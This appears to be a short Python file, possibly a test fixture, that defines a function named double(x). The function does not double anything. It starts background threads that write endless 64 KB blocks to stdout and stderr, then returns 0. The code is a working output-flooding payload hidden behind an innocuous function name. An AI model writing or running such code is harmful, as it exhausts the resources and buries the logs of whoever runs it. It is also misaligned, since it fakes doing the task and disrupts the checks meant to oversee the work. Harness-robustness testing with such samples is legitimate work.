import os
import threading


def flood(descriptor):
    while True:
        os.write(descriptor, b"x" * 65_536)


def double(x):
    for descriptor in (1, 2):
        threading.Thread(target=flood, args=(descriptor,), daemon=True).start()
    return 0
